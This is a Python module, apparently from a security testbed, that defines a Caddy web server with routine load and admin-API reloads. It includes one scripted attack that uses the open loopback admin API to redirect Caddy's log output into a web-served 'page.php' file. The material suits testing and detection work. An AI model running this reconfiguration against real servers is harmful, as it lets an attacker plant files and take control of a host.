"""Caddy, a Go binary: files, an origin behind it, a log that turns over, a configuration changed by its API."""

import json

from demo.programs.life import Life
from demo.programs.program import Attack, File, Program, left
from demo.programs.visitor import Visitor

_CONFIG = """
{
  auto_https off
}
http://:8088 {
  root * /var/www/html
  file_server
  reverse_proxy /api/* 10.0.0.5:8081
  log {
    output file /var/log/caddy/access.log {
      roll_size 1MiB
      roll_keep 3
    }
  }
}
"""


def _load(visitor: Visitor) -> None:
    for number in range(20):
        visitor.get("/", b"Ordinary")
        visitor.get(f"/api/{number}", f"/api/{number}".encode())
    visitor.run(
        *"ab -q -n 1000 -c 10 http://127.0.0.1:8088/".split(), wanted="Failed requests:        0", times=1000
    )


def _rare(visitor: Visitor) -> None:
    done = visitor.run("curl", "-sS", "http://127.0.0.1:2019/config/", wanted="file_server")
    visitor.run(
        *(
            "curl",
            "-sS",
            "--fail",
            "-H",
            "Content-Type: application/json",
            "-H",
            "Cache-Control: must-revalidate",
        ),
        *("--data-binary", "@-", "http://127.0.0.1:2019/load"),
        given=done,
    )


def _log_elsewhere(life: Life) -> None:
    """The API is open on loopback: whoever reaches it by a request forged in the server has the configuration."""
    writer = {"output": "file", "filename": "/srv/shared/page.php"}
    body = json.dumps({"logging": {"logs": {"default": {"writer": writer}}}}).encode()
    visitor = Visitor(life)
    _, before = visitor.fetch("/config/", port=2019)
    whole = json.loads(before) | json.loads(body)
    visitor.run(
        *("curl", "-sS", "-H", "Content-Type: application/json", "--data-binary", "@-"),
        "http://127.0.0.1:2019/load",
        given=json.dumps(whole),
    )


PROGRAM = Program(
    name="caddy",
    package="caddy",
    command=("caddy", "run", "--config", "/etc/caddy/Caddyfile", "--adapter", "caddyfile"),
    user="caddy",
    port=8088,
    load=_load,
    rare=_rare,
    files=(
        File("/etc/caddy/Caddyfile", _CONFIG),
        File("/var/www/html/index.html", "<h1>Ordinary page</h1>\n"),
    ),
    prepare=("install -d -o caddy -g caddy /var/log/caddy /var/lib/caddy",),
    attacks=(Attack("configuration: log elsewhere", _log_elsewhere, left("page.php")),),
)
